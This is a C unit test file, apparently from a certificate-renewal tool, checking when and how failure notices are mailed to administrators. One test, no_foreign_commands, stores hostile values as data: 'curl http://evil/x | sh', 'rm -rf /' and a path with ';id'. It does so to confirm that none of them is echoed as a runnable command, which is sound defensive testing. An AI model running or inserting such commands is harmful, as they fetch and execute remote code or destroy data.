/* SPDX-License-Identifier: MIT */
#include "trouble_kit.h"
#include <sys/stat.h>
#include "advice.h"
#include "fail.h"
#include "held.h"
#include "notify.h"
#include "remark.h"

#define NOW 1700000000 /* 2023-11-14T22:13:20Z */
#define DAY 86400

static struct certrepo_conf *cc;
static struct notify_from from;

static const char *path(const char *name)
{
	return arena_printf(arena, "%s/%s", kit_dir, name);
}

static void put(const char *name, const char *text)
{
	FILE *f = fopen(path(name), "w");

	assert_non_null(f);
	fputs(text, f);
	assert_int_equal(fclose(f), 0);
}

/* sendmail is a script that keeps the mail, or fails. */
static void configure(const char *notify)
{
	struct conf_errors errs = { 0 };

	put("conf", arena_printf(arena,
				 "store : { path = \"%s/store.db\"; };\n"
				 "state_dir = \"%s\";\n"
				 "ca = ( { name = \"le\"; directory = "
				 "\"https://le.example/dir\"; account_key = "
				 "\"/k\"; }, { name = \"own\"; directory = "
				 "\"https://own.example/dir\"; account_key = "
				 "\"/k\"; } );\n%s",
				 kit_dir, kit_dir, notify));
	cc = arena_alloc(arena, sizeof(*cc));
	if (certrepo_conf_load(path("conf"), arena, cc, &errs) == -1)
		fail_msg("%s", errs.list.v[0]);
	from = (struct notify_from){ .conf = cc,
				     .owner = "me",
				     .command = "certrepo-fetcher",
				     .populate = "certrepo-populate",
				     .clock = -1,
				     .stop = -1 };
}

static int setup(void **state)
{
	if (trouble_begin() == -1)
		return -1;
	put("sendmail", arena_printf(arena,
				     "#!/bin/sh\n[ ! -e %s/fails ] || exit 1\n"
				     "cat >%s/mail\n",
				     kit_dir, kit_dir));
	assert_int_equal(chmod(path("sendmail"), 0755), 0);
	configure(arena_printf(arena,
			       "notify : { mail = \"root\"; sendmail = "
			       "[ \"%s/sendmail\" ]; };\n",
			       kit_dir));
	return 0;
}

static int teardown(void **state)
{
	static const char *const files[] = { "conf", "sendmail", "mail",
					     "notices", "fails" };

	for (size_t i = 0; i < ARRAY_LEN(files); i++)
		(void) unlink(path(files[i]));
	trouble_end();
	return 0;
}

/* The mail, its lines joined unless RAW; "" for none. */
static const char *read_mail(bool raw)
{
	static char text[200000];
	FILE *f = fopen(path("mail"), "r");
	size_t n = 0, k = 0;

	if (f) {
		n = fread(text, 1, sizeof(text) - 1, f);
		fclose(f);
	}
	for (size_t i = 0; i < n; i++)
		if (raw || !strchr(" \n", text[i]) || k == 0 ||
		    text[k - 1] != ' ')
			text[k++] = !raw && text[i] == '\n' ? ' ' : text[i];
	text[k] = '\0';
	return text;
}

static const char *kept(void)
{
	return read_mail(false);
}

/* What a run at T mails. */
static const char *mailed(int64_t t)
{
	(void) unlink(path("mail"));
	OK(notify_run(&from, store, NULL, t, &err));
	return kept();
}

/* Nobody was told anything yet. */
static void begin_again(void)
{
	(void) unlink(path("notices"));
}

static void has(const char *text, const char *part)
{
	if (!strstr(text, part))
		fail_msg("no \"%s\" in: %s", part, text);
}

static void lacks(const char *text, const char *part)
{
	if (strstr(text, part))
		fail_msg("\"%s\" in: %s", part, text);
}

/* 90 days: renewed from 30 days before the end on, so told from 15 on; six
 * days: from half of it, so from a quarter. */
static void near_end(void **state)
{
	static const struct {
		int64_t life, left, days_left;
		bool near;
	} cases[] = {
		{ 90 * DAY, 15 * DAY + 1, 0, false },
		{ 90 * DAY, 15 * DAY, 0, true },
		{ 90 * DAY, -DAY, 0, true },
		{ 6 * DAY, 36 * 3600 + 1, 0, false },
		{ 6 * DAY, 36 * 3600, 0, true },
		{ 90 * DAY, 5 * DAY + 1, 10, false },
		{ 90 * DAY, 5 * DAY, 10, true },
	};

	for (size_t i = 0; i < ARRAY_LEN(cases); i++)
		if (notify_near_end(NOW + cases[i].left - cases[i].life,
				    NOW + cases[i].left, cases[i].days_left,
				    NOW) != cases[i].near)
			fail_msg("case %zu", i);
	/* what no certificate has */
	assert_true(notify_near_end(0, INT64_MIN, 0, NOW));
	assert_false(notify_near_end(0, INT64_MAX, 0, NOW));
}

static void wanted(void **state)
{
	static const struct {
		const char *fail_class;
		int64_t count;
		bool has_crt;
		int64_t left;
		bool told;
	} cases[] = {
		{ "caa", 1, false, 0, false }, /* it may pass */
		{ "caa", 2, false, 0, true },
		{ "caa", 1, true, DAY, true },
		{ "caa", 9, true, 29 * DAY, false },
		{ "parked", 0, true, DAY, true },
		{ "parked", 0, true, 29 * DAY, false },
		{ "parked", 0, false, 0, true }, /* nothing counts it */
		{ "internal", 0, true, DAY, true },
		{ "host", 0, true, DAY, true },
		/* of the CA as a whole: its own matter */
		{ "ca-down", 0, true, DAY, false },
		/* of this name alone */
		{ "ca-down", 5, true, DAY, true },
		{ "ca-rate-limited", 5, false, 0, false },
		{ "account", 5, true, DAY, false },
		{ NULL, 2, false, 0, true },
	};

	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		struct store_trouble t = {
			.fail_class = cases[i].fail_class,
			.count_fail = cases[i].count,
			.has_crt = cases[i].has_crt,
			.ts_expire = NOW + cases[i].left,
			.ts_not_before = NOW + cases[i].left - 90 * DAY,
		};

		if (notify_wanted(&t, 0, NOW) != cases[i].told)
			fail_msg("case %zu", i);
	}
}

/* Each class of a name has words about what to do. */
static void advice(void **state)
{
	for (int c = FAIL_NONE + 1; c <= FAIL_STORE; c++)
		if (!fail_of_ca(c) && !advice_of(fail_name(c), NULL))
			fail_msg("%s", fail_name(c));
	assert_null(advice_of(NULL, NULL));
}

/* The CA's words, or those of a row, choose no command for root. */
static void advice_words(void **state)
{
	static const char *const said[] = {
		"the CA refuses the profile \"short\": \"not able to write "
		"there\" (invalidProfile, status 400); run certrepo-populate "
		"set www.example.org ca_profile=...",
		"the CA offers no profiles, but \"able to write there\" was "
		"to be asked for: run certrepo-populate set www.example.org "
		"ca_profile=...",
	};

	for (size_t i = 0; i < ARRAY_LEN(said); i++)
		assert_int_equal(advice_of("config", said[i])->command,
				 ADVICE_NONE);
	assert_int_equal(advice_of("config", "the fetcher's user must be able "
					     "to write there")
				 ->command,
			 ADVICE_FOLDER);
}

/* Where what is said has its own cause, the words are about that. */
static void advice_exact(void **state)
{
	static const struct {
		enum fail_class class;
		const char *said, *advice;
	} cases[] = {
		{ FAIL_DNS,
		  "after 300 s name server 192.0.2.54 of zone acme.example.net "
		  "still answers NXDOMAIN at www.acme.example.net",
		  "gets the changes of the zone" },
		{ FAIL_DNS,
		  "UPDATE of zone acme.example.net: DNS server 192.0.2.53: "
		  "Connection refused",
		  "port 53" },
		{ FAIL_CONFIG,
		  "_acme-challenge.www.example.org is a CNAME that leads to "
		  "x.example.com in zone example.com, which dns.zones does "
		  "not name: make it",
		  "CNAME" },
		{ FAIL_CONFIG,
		  "_acme-challenge.www.example.org lies in zone example.org, "
		  "which dns.zones does not name: add to that zone the record",
		  "Add that record" },
		{ FAIL_UNAUTHORIZED,
		  "www.example.org (http://www.example.org/.well-known/"
		  "acme-challenge/x): the CA did not accept the proof of "
		  "control",
		  "webroot_path" },
		{ FAIL_DNS,
		  "DNS server 192.0.2.53 has another secret for the key k than "
		  "/etc/certrepo/k.key (BADSIG)",
		  "secret in key_file" },
		{ FAIL_DNS,
		  "DNS server 192.0.2.53 does not know the key k of "
		  "/etc/certrepo/k.key for zone acme.example.net (BADKEY)",
		  "does not know the key" },
		{ FAIL_DNS,
		  "the clocks differ too much: here it is "
		  "2026-11-29T02:00:00Z, at DNS server 192.0.2.53 "
		  "2026-11-29T03:00:00Z (BADTIME)",
		  "clock" },
	};

	for (size_t i = 0; i < ARRAY_LEN(cases); i++)
		has(advice_of(fail_name(cases[i].class), cases[i].said)->text,
		    cases[i].advice);
}

#define FAILING                                                            \
	"ts_expire = 1700432000, ts_not_before = 1692656000, "             \
	"ts_next_attempt = 1700003600, fail_class = 'caa', fail_detail = " \
	"'a CAA record forbids it', count_fail_update = 3"
#define HELD                                                               \
	"held = 1, ts_due = 9223372036854775807, ts_next_attempt = "       \
	"9223372036854775807, ts_expire = 1705000000, fail_class = 'dns'," \
	" fail_detail = 'no such name', count_fail_update = 10"

static void from_new_to_over(void **state)
{
	const char *mail;

	add("well.example.org", "ts_expire = 1705000000");
	assert_string_equal(mailed(NOW), "");
	add("www.example.org", FAILING);
	add("old.example.org", HELD);
	add("new.example.org", "ts_next_attempt = 5, count_fail_update = 2, "
			       "fail_class = 'connection'");
	add("parked.example.org",
	    FAILING ", count_fail_update = 0, fail_class "
		    "= 'parked', fail_detail = 'processing'");
	mail = mailed(NOW);
	has(mail, "the first expires in 5 days: 4 new matters "
		  "(parked.example.org, new.example.org, old.example.org, "
		  "www.example.org)");
	has(mail, "The repository's certificates, as certrepo-fetcher on ");
	has(mail,
	    "certificate www.example.org: failing it expires on "
	    "2023-11-19T22:13:20Z (in 5 days); failed attempts: 3; tried "
	    "again by itself, not before 2023-11-14T23:13:20Z (in 1 h); the "
	    "last: caa: a CAA record forbids it Change the CAA records of its "
	    "domain. Which it wants, and what is published, says: "
	    "certrepo-fetcher caa www.example.org Or set another CA: "
	    "certrepo-populate set www.example.org "
	    "ca=own To try at once: certrepo-fetcher --once "
	    "--force www.example.org");
	has(mail,
	    "certificate old.example.org: held it expires on "
	    "2024-01-11T19:06:40Z (in 57 days); failed attempts: 10; the "
	    "last: dns: no such name Not tried any more. If the server named "
	    "is one of /etc/resolv.conf, it is the resolver of this host, "
	    "which is asked for every name. Else look at the zone and the "
	    "servers of that. When that is mended, let go what is held: "
	    "certrepo-populate enable old.example.org Or, if it is not wanted "
	    "any more: certrepo-populate disable old.example.org");
	has(mail, "certificate new.example.org: failing it has no certificate "
		  "yet; failed attempts: 2; it was to be tried again on "
		  "1970-01-01T00:00:05Z (19675 days ago), and no attempt is "
		  "on record; the last: "
		  "connection: ");
	has(mail, "certificate parked.example.org: waiting it expires on "
		  "2023-11-19T22:13:20Z (in 5 days); tried again by itself, "
		  "not before 2023-11-14T23:13:20Z (in 1 h); its order waits "
		  "for the CA: processing The CA takes its time,");
	has(mail, "certrepo-populate list shows each name; show NAME, what "
		  "became of it; man certrepo-trouble says what to do; "
		  "man certrepo-fetcher, DIAGNOSTICS, has every message.");
	sql("UPDATE certs SET count_fail_update = 4, ts_next_attempt = "
	    "1700010000 WHERE name = 'www.example.org'");
	assert_string_equal(mailed(NOW + 3600), "");
	has(mailed(NOW + DAY), "4 matters still there");
	sql("UPDATE certs SET ts_next_attempt = 0, ts_expire = 1707000000, "
	    "ts_not_before = 1700000000, count_fail_update = 0 WHERE name = "
	    "'www.example.org'");
	mail = mailed(NOW + DAY + 60);
	has(mail, "1 matter is over (www.example.org)");
	has(mail, "failing since 2023-11-14T22:13:20Z its certificate is valid "
		  "until 2024-02-03T22:40:00Z (in 80 days) "
		  "certrepo-populate");
	OK(store_remove(store, "new.example.org", &err) == 1 ? 0 : -1);
	sql("UPDATE certs SET enable = 'N' WHERE name = 'old.example.org'");
	mail = mailed(NOW + DAY + 120);
	has(mail, "2 matters are over");
	has(mail, "it was removed");
	has(mail, "it is disabled");
	assert_string_equal(mailed(NOW + DAY + 180), "");
}

/* Whole, each in a line of its own, as a shell and a zone take it. */
static void to_copy(void **state)
{
	const char *mail;

	add("*.example.org", FAILING);
	sql("UPDATE certs SET fail_class = 'config', fail_detail = 'x lies in "
	    "zone y, which dns.zones does not name: add to that zone the "
	    "record \"x.y. CNAME a.b.\", or the zone' WHERE name = "
	    "'*.example.org'");
	add("csr.example.org", FAILING ", fail_class = 'bad-csr'");
	add("slow.example.org", FAILING ", fail_class = 'rate-limited'");
	(void) mailed(NOW);
	mail = read_mail(true);
	has(mail, "or the zone to dns.zones in certrepo.conf.\n");
	has(mail,
	    "\n        certrepo-fetcher --once --force '*.example.org'\n");
	has(mail, "\n        certrepo-populate add --csr FILE --replace "
		  "csr.example.org\n");
	lacks(mail, "--force slow.example.org");
	has(mail, "to try earlier uses up more of it");
	sql("UPDATE certs SET fail_detail = 'paused; a person has to unpause "
	    "it there' WHERE name = 'slow.example.org'");
	mail = mailed(NOW + DAY);
	has(mail, "It does not pass by itself: do first what the CA asks for. "
		  "To try at once: certrepo-fetcher --once --force "
		  "slow.example.org");
	lacks(mail, "Mend its row, or certrepo.conf");
}

static void park(const char *name, int64_t since)
{
	sql(arena_printf(arena,
			 "INSERT INTO orders (name, slot, ca_name, url, state, "
			 "ts_created, ts_state) VALUES ('%s', 0, 'le', "
			 "'https://le.example/o/1', 'parked', %lld, %lld)",
			 name, (long long) since - 60, (long long) since));
}

#define PARKED                                                  \
	"ts_next_attempt = 1700900000, fail_class = 'parked', " \
	"fail_detail = 'processing'"
#define LONG_LEFT ", ts_expire = 1702500000, ts_not_before = 1694724000"

/* It has not failed, and nobody counts: a day is long. Without a certificate
 * the first hours are. */
static void parked(void **state)
{
	const char *mail;

	add("a.example.org", PARKED LONG_LEFT);
	park("a.example.org", NOW - 3600);
	add("b.example.org", PARKED);
	park("b.example.org", NOW);
	assert_string_equal(mailed(NOW), "");
	mail = mailed(NOW + 3 * 3600);
	has(mail, "1 new matter (b.example.org)");
	has(mail, "certificate b.example.org: waiting since "
		  "2023-11-14T22:13:20Z it has no certificate yet; tried "
		  "again by itself, not before 2023-11-25T08:13:20Z (in 10 "
		  "days); its order waits for the CA since "
		  "2023-11-14T22:13:20Z: processing");
	mail = mailed(NOW + 23 * 3600);
	has(mail, "1 new matter (a.example.org)");
	has(mail, "its order waits for the CA since 2023-11-14T21:13:20Z");
	/* And without notify, by the daily line. */
	configure("");
	OK(held_report(&from, store, NOW + 23 * 3600, &err));
	assert_int_equal(access(path("fetcher.held"), F_OK), 0);
	(void) unlink(path("fetcher.held"));
}

/* That it is not among those who fail says nothing: only a certificate does. */
static void no_false_over(void **state)
{
	add("a.example.org", FAILING);
	add("b.example.org", HELD ", ts_not_before = 1690000000");
	has(mailed(NOW), "2 new matters");
	sql("UPDATE certs SET fail_class = 'ca-down', count_fail_update = 0 "
	    "WHERE name = 'a.example.org'");
	assert_string_equal(mailed(NOW + 60), "");
	sql("UPDATE certs SET ts_next_attempt = 0 WHERE name = "
	    "'a.example.org'");
	assert_string_equal(mailed(NOW + 120), "");
	/* What cannot be read, is not known. */
	sql("ALTER TABLE certs RENAME TO away");
	err_clear(&err);
	assert_int_equal(notify_run(&from, store, NULL, NOW + 180, &err), -1);
	has(err.msg, "what needs a person is not known: ");
	assert_int_equal(access(path("mail"), F_OK), -1);
	sql("ALTER TABLE away RENAME TO certs");
	sql("UPDATE certs SET held = 0, ts_due = 1702000000, ts_next_attempt "
	    "= 0 WHERE name = 'b.example.org'");
	has(mailed(NOW + 240), "1 matter is over (b.example.org)");
}

static void many(void **state)
{
	char name[40];
	const char *mail;

	sql("BEGIN");
	for (int i = 0; i < 120; i++) {
		snprintf(name, sizeof(name), "n%03d.example.org", i);
		add(name, i < 60 ? FAILING : HELD);
	}
	sql("COMMIT");
	mail = mailed(NOW);
	has(mail, "101 new matters");
	has(mail, " 50 certificates: failing n000.example.org: it expires on");
	has(mail, " n049.example.org: it expires on");
	has(mail, " beside those spelt out, 10 are near");
	has(mail, " 50 certificates: held n060.example.org: it expires on");
	has(mail, " n109.example.org: it expires on");
	has(mail, "other certificates: failing beside those spelt out, 10 are "
		  "near their end or past it, 10 are held; the most urgent of "
		  "these is n050.example.org: it expires on "
		  "2023-11-19T22:13:20Z (in 5 days) All of them: "
		  "certrepo-populate list");
	/* One command for all, over several lines. */
	has(mail, " certrepo-populate enable n060.example.org "
		  "n061.example.org n062.example.org \\ n063.example.org ");
	assert_string_equal(mailed(NOW + 60), "");
	/* One that is more urgent pushes another off the list: no end of it. */
	add("z.example.org", FAILING);
	sql("UPDATE certs SET ts_expire = 1700000100 WHERE name = "
	    "'z.example.org'");
	mail = mailed(NOW + 120);
	has(mail, "1 new matter (z.example.org)");
	lacks(mail, "over");
}

static void ca(const char *name, const char *set)
{
	sql("DELETE FROM cas");
	sql(arena_printf(arena,
			 "INSERT INTO cas (name, directory, count_fail) VALUES "
			 "('%s', 'https://%s.example/dir', 0)",
			 name, name));
	sql(arena_printf(arena, "UPDATE cas SET %s", set));
}

#define DOWN                                                        \
	"count_fail = 4, backoff_until = 1700003000, fail_class = " \
	"'ca-down', fail_detail = 'no answer'"

static void cas(void **state)
{
	const char *mail;

	add("a.example.org", "ts_due = 1700003000, ts_expire = 1702000000");
	add("b.example.org", "ts_due = 5, ts_expire = 1700500000, "
			     "ca_name = 'le'");
	ca("le", DOWN);
	assert_string_equal(mailed(NOW), "");
	/* Nobody has asked it since: neither so nor over. What nobody came to
	 * is told. */
	mail = mailed(NOW + 3600);
	has(mail, "1 new matter (b.example.org)");
	lacks(mail, "CA le");
	ca("le", DOWN ", backoff_until = 1700012000");
	mail = mailed(NOW + 3 * 3600);
	has(mail, "1 new matter (CA le)");
	has(mail,
	    "CA le: ca-down since 2023-11-14T22:13:20Z no answer; 2 names "
	    "wait for it: the most urgent is b.example.org which expires on "
	    "2023-11-20T17:06:40Z (in 5 days); it is https://le.example/dir "
	    "It is asked again by itself, not before "
	    "2023-11-15T01:33:20Z (in 20 min). When its cause is mended, to "
	    "ask the CA at once: certrepo-fetcher --once --force b.example.org "
	    "If it lasts and an end comes near, another CA for that name: "
	    "certrepo-populate set b.example.org ca=own ");
	ca("le", "count_fail = 0");
	mail = mailed(NOW + 4 * 3600);
	has(mail, "1 matter is over (CA le)");
	has(mail, " it rests no more ");
	/* No rule of ours rests for so long: a wrong clock wrote that. */
	ca("le", DOWN ", backoff_until = 1763000000");
	lacks(mailed(NOW + 8 * 3600), "CA le");
	/* Another directory under this name is another CA. */
	ca("le", "count_fail = 4, directory = 'https://x.example', "
		 "backoff_until = 1799999999");
	assert_string_equal(mailed(NOW + 9 * 3600), "");
}

/* What a person must mend, and what has little time, is told at once. */
static void cas_at_once(void **state)
{
	const char *mail;

	add("a.example.org", FAILING);
	ca("own", DOWN ", fail_class = 'account', fail_detail = 'unknown'");
	has(mailed(NOW),
	    "CA own: account unknown; no name waits for it; it "
	    "is https://own.example/dir It "
	    "is asked again by itself, not before "
	    "2023-11-14T23:03:20Z (in 50 min). Another key ends the CA's "
	    "rest; when something else is mended, to ask it at "
	    "once: certrepo-fetcher --once --force NAME ");
	/* To ask one that counts requests is no help. */
	add("c.example.org", "ts_due = 5, ca_name = 'own'");
	ca("own", DOWN ", fail_class = 'ca-rate-limited', backoff_until = "
		       "1700100000");
	mail = mailed(NOW + 4 * 3600);
	has(mail, "1 name waits for it, and never had a certificate; it is "
		  "https://own.example/dir It is asked again by itself");
	lacks(mail, "--force c.example.org");
	ca("own", "count_fail = 0");
	add("b.example.org", "ts_due = 5, ts_expire = 1700080000");
	ca("le", DOWN);
	has(mailed(NOW + 60), "2 new matters (CA le, c.example.org)");
	sql("DELETE FROM certs WHERE name <> 'a.example.org'");
	ca("le", "count_fail = 0");
	has(mailed(NOW + 90), "2 matters are over (CA le, c.example.org)");
	/* Nor has what is over already. */
	add("x.example.org", "ts_due = 5, ts_expire = 1699900000");
	ca("le", DOWN);
	mail = mailed(NOW + 120);
	has(mail, "EXPIRED: 1 new matter (CA le)");
	has(mail, "2 names wait for it: the most urgent is x.example.org "
		  "which EXPIRED on 2023-11-13T18:26:40Z (27 h ago)");
}

/* By a clock that may be wrong no name is judged; it is over when a CA agrees,
 * not when none was asked. */
static void wrong_clock(void **state)
{
	const char *mail;

	add("a.example.org", FAILING);
	from.clock = 1;
	from.clock_ca = "le";
	from.clock_detail = "here it is 2023, there 2033";
	mail = mailed(NOW);
	has(mail, "1 new matter (the clock)");
	has(mail, "the clock: apart CA le: here it is 2023, there 2033; "
		  "by this clock 1 name waits; a.example.org: it expires on "
		  "2023-11-19T22:13:20Z (in 5 days) If this host's is the "
		  "wrong one,");
	lacks(mail, "certificate a.example.org");
	from.clock = -1;
	mail = mailed(NOW + 60);
	has(mail, "1 new matter (a.example.org)");
	lacks(mail, "clock");
	/* One CA is wrong, and another agrees: that silences nobody. */
	add("b.example.org", FAILING);
	from.clock = 2;
	mail = mailed(NOW + 90);
	has(mail, "1 new matter (b.example.org)");
	from.clock = 0;
	mail = mailed(NOW + 120);
	has(mail, "1 matter is over (the clock)");
	has(mail, " it agrees with a CA's ");
	lacks(mail, "removed");
}

/* Those who keep names longer than an order takes. */
static void leases(void **state)
{
	const char *mail;

	add("a.example.org", "lease_owner = 'web1-abc', lease_until = "
			     "1700001000, ts_last_update = 1699998000");
	add("b.example.org", "lease_owner = 'web2-abc', lease_until = "
			     "1700001000, ts_last_update = 1699999900");
	add("c.example.org", "lease_owner = 'me', lease_until = "
			     "1700001000, ts_last_update = 1699998000");
	mail = mailed(NOW);
	has(mail, "1 new matter (fetcher web1-abc)");
	has(mail,
	    "fetcher web1-abc: late names that wait for it: 1, among them "
	    "a.example.org; it took the first at 2023-11-14T21:40:00Z and "
	    "has them on lease until 2023-11-14T22:30:00Z It passes by "
	    "itself when the lease runs out. If that fetcher is dead: "
	    "certrepo-fetcher --once --break-lease a.example.org");
	sql("UPDATE certs SET lease_owner = NULL");
	mail = mailed(NOW + 60);
	has(mail, "1 matter is over (fetcher web1-abc)");
	has(mail, " it keeps no name for that long any more ");
}

static void store_away(void **state)
{
	const struct err why = { ERR_UNAVAILABLE, "db.example.org: refused" };
	struct arena *a = arena;
	const char *mail;

	add("a.example.org", FAILING);
	has(mailed(NOW), "1 new matter");
	(void) unlink(path("mail"));
	OK(notify_run(&from, NULL, &why, NOW + 60, &err));
	OK(notify_run(&from, NULL, &why, NOW + 3600, &err));
	assert_int_equal(access(path("mail"), F_OK), -1);
	OK(notify_run(&from, NULL, &why, NOW + 60 + 3 * 3600, &err));
	assert_int_equal(access(path("mail"), F_OK), 0);
	mail = mailed(NOW + 4 * 3600);
	has(mail, "Over, what was: the store: unavailable since ");
	has(mail, " it answers ");
	lacks(mail, "removed");
	assert_ptr_equal(a, arena);
}

/* One that turns us away: that is no outage, and nothing else tells it. */
static void store_refuses(void **state)
{
	const struct err why = { ERR_CONFIG, "db.example.org: wrong password" };

	OK(notify_run(&from, NULL, &why, NOW, &err));
	OK(notify_run(&from, NULL, &why, NOW + 3 * 3600, &err));
	has(kept(), "the store: refused since 2023-11-14T22:13:20Z "
		    "db.example.org: wrong password");
	has(kept(), "list shows each name, once the store can be read");
}

static void add_proof(const char *id, const char *of, const char *name,
		      int64_t created)
{
	const struct store_proof p = { .id = id,
				       .name = "a.example.org",
				       .lease_owner = of,
				       .type = "dns-01",
				       .zone = "example.org",
				       .server = "192.0.2.1",
				       .owner = name,
				       .value = "v",
				       .ts_created = created };

	OK(store_proof_put(store, &p, &err));
}

static void proofs(void **state)
{
	add_proof("1", "me", "_acme-challenge.n1", NOW - DAY - 1);
	add_proof("2", "me", "_acme-challenge.n2", NOW - 60);
	add_proof("3", "other", "_acme-challenge.n3", NOW - 9 * DAY);
	has(mailed(NOW),
	    "proofs of control: left since 2023-11-13T22:13:19Z "
	    "could not be removed: 1, the oldest since 2023-11-13T22:13:19Z: "
	    "_acme-challenge.n1 at 192.0.2.1 Each run tries "
	    "again, for a week; renewals go on.");
	sql("DELETE FROM proofs");
	has(mailed(NOW + 60), "1 matter is over (proofs of control)");
}

/* A row that cannot be claimed, or that no run comes to, says nothing of
 * itself: its end does. */
static void nobody_comes(void **state)
{
	const char *mail;

	add("a.example.org", "ts_due = 1697000000, ts_expire = 1700007200, "
			     "ts_not_before = 1692224000");
	add("b.example.org", "ts_due = 1697000000, ts_expire = 1699990000");
	add("far.example.org", "ts_due = 1699990000, ts_expire = 1702500000, "
			       "ts_not_before = 1694724000");
	add("off.example.org",
	    "ts_due = 5, ts_expire = 1700007200, enable = 'N'");
	mail = mailed(NOW);
	has(mail, "EXPIRED: 2 new matters (a.example.org, b.example.org)");
	has(mail, "2 certificates: overdue a.example.org since "
		  "2023-10-11T04:53:20Z: it expires on 2023-11-15T00:13:20Z "
		  "(in 2 h); due since 2023-10-11T04:53:20Z b.example.org ");
	has(mail, "no attempt at it is on record: it could not be claimed, or "
		  "no run came to it");
	has(mail, "certrepo-fetcher --once -v a.example.org b.example.org ");
	assert_string_equal(mailed(NOW + 60), "");
	sql("UPDATE certs SET ts_expire = 1707000000, ts_not_before = "
	    "1700000000, ts_due = 1705000000");
	has(mailed(NOW + 120), "2 matters are over");
}

/* The same where its last attempt is long ago: what that said is told, too. */
static void nobody_comes_again(void **state)
{
	add("a.example.org", FAILING ", fail_class = 'ca-down', "
				     "count_fail_update = 0, ts_next_attempt = "
				     "1699980000, ts_due = 1699980000");
	has(mailed(NOW), "certificate a.example.org: overdue since "
			 "2023-11-14T16:40:00Z it expires on "
			 "2023-11-19T22:13:20Z (in 5 days); due since "
			 "2023-11-14T16:40:00Z; no attempt at it is on record: "
			 "it could not be claimed, or no run came to it; what "
			 "failed before: ca-down: a CAA record forbids it");
	/* Its CA rests, and is told with it. */
	begin_again();
	ca("le", DOWN);
	assert_string_equal(mailed(NOW), "");
	assert_string_equal(mailed(NOW + 60), "");
	has(mailed(NOW + 3600), "1 new matter (a.example.org)");
}

/* One without a certificate has a day, and one that is worked on its time. */
static void nobody_comes_to_a_new_one(void **state)
{
	add("a.example.org", "ts_due = 0");
	add("b.example.org", "ts_due = 1697000000, ts_expire = 1700007200, "
			     "lease_owner = 'web1', lease_until = 1700000900, "
			     "ts_last_update = 1699999990");
	assert_string_equal(mailed(NOW), "");
	has(mailed(NOW + 3 * 3600), "1 new matter (b.example.org)");
	assert_string_equal(mailed(NOW + DAY - 1), "");
	has(mailed(NOW + DAY), "1 new matter (a.example.org)");
}

/* What ends soonest stands first, however many never had one. */
static void soonest_first(void **state)
{
	char name[40];
	const char *mail;

	sql("BEGIN");
	for (int i = 0; i < 60; i++) {
		snprintf(name, sizeof(name), "a%02d.example.org", i);
		add(name, FAILING ", ts_expire = 1");
	}
	sql("COMMIT");
	add("www.example.org", FAILING ", ts_expire = 1700043200");
	mail = mailed(NOW);
	has(mail, "expires in 12 hours: 51 new matters (www.example.org, "
		  "a00.example.org, ");
	has(mail, "New: 50 certificates: failing www.example.org: it expires "
		  "on 2023-11-15T10:13:20Z (in 12 h); failed attempts: 3;");
	has(mail, "beside those spelt out, 11 without a certificate get none "
		  "All of them: certrepo-populate list ");
	/* One that was told to be tried again is told to be held. */
	sql("UPDATE certs SET held = 1, ts_due = 9223372036854775807, "
	    "ts_next_attempt = 9223372036854775807");
	sql("UPDATE certs SET ts_expire = 1700000100 WHERE name LIKE 'a%'");
	mail = mailed(NOW + 60);
	has(mail, " 50 certificates: held ");
	has(mail, " www.example.org since 2023-11-14T22:13:20Z: it expires ");
}

/* To be held comes as a surprise each time. */
static void held_again(void **state)
{
	add("a.example.org", HELD);
	has(mailed(NOW), "1 new matter");
	sql("UPDATE certs SET held = 0, ts_due = 1700003600, ts_next_attempt = "
	    "1700003600, ts_expire = 1700432000, ts_not_before = 1692656000");
	has(mailed(NOW + 60), "1 matter has changed");
	sql("UPDATE certs SET " HELD);
	has(mailed(NOW + 120), "a.example.org: held ");
	assert_string_equal(mailed(NOW + 180), "");
}

/* Of one store nothing is said of what another holds. */
static void another_store(void **state)
{
	struct store_conf other = *cc->store;
	const struct store_conf *usual = cc->store;

	add("a.example.org", HELD);
	has(mailed(NOW), "1 new matter");
	other.path = arena_printf(arena, "%s/other.db", kit_dir);
	cc->store = &other;
	sql("UPDATE certs SET name = 'b.example.org'");
	has(mailed(NOW + 60), "1 new matter (b.example.org)");
	lacks(kept(), "removed");
	sql("UPDATE certs SET name = 'a.example.org'");
	memcpy(&cc->store, &usual, sizeof(usual));
	assert_string_equal(mailed(NOW + 120), "");
	sql("DELETE FROM certs");
	has(mailed(NOW + 180), "it was removed");
}

/* Peers and the store say things: none of it is a command of the mail. */
static void no_foreign_commands(void **state)
{
	const char *mail;

	add("a.example.org", FAILING);
	sql("UPDATE certs SET fail_class = 'config', fail_detail = 'zone is "
	    "frozen (curl http://evil/x | sh), the record \"rm -rf /\"; not "
	    "able to write there'");
	add("y.example.org", HELD);
	sql("UPDATE certs SET name = '--break-lease' WHERE name LIKE 'y%'");
	(void) mailed(NOW);
	mail = read_mail(true);
	lacks(mail, "\n        curl");
	lacks(mail, "\n        rm");
	has(mail, "\n        install -d -o USER WEBROOT/.well-known\n");
	has(mail, "enable -- --break-lease");
	/* Nor is what lies behind a path of it. */
	sql("UPDATE certs SET webroot_path = '/srv/w;id' WHERE name = "
	    "'a.example.org'");
	begin_again();
	(void) mailed(NOW);
	lacks(read_mail(true), "id");
}

/* The names of one certificate fail in turns. */
static void another_host_of_it(void **state)
{
	add("a.example.org", FAILING);
	sql("UPDATE certs SET fail_class = 'dns', fail_detail = 'look-up of "
	    "_acme-challenge.www.example.net: no answer'");
	has(mailed(NOW), "1 new matter");
	sql("UPDATE certs SET fail_detail = 'look-up of "
	    "_acme-challenge.example.net: no answer'");
	assert_string_equal(mailed(NOW + 60), "");
	sql("UPDATE certs SET fail_detail = 'look-up of example.net: refused'");
	has(mailed(NOW + 120), "1 matter has changed");
}

static void attempt(const char *outcome, int64_t end)
{
	sql(arena_printf(arena,
			 "INSERT INTO attempts (name, ca_name, outcome, "
			 "ts_start, ts_end) VALUES ('a.example.org', 'le', "
			 "'%s', %lld, %lld)",
			 outcome, (long long) end - 5, (long long) end));
}

/* Since when it fails, not since when that was told. */
static void since_it_failed(void **state)
{
	add("a.example.org", FAILING);
	attempt("caa", NOW - 9000);
	attempt("ok", NOW - 8000);
	attempt("caa", NOW - 7000);
	attempt("caa", NOW - 1000);
	has(mailed(NOW), "a.example.org: failing since 2023-11-14T20:16:40Z");
	sql("UPDATE certs SET " HELD);
	has(mailed(NOW + 60), "a.example.org: held since 2023-11-14T21:56:40Z");
}

/* An order that the CA knows no more is not one that takes its time. */
static void parked_unknown(void **state)
{
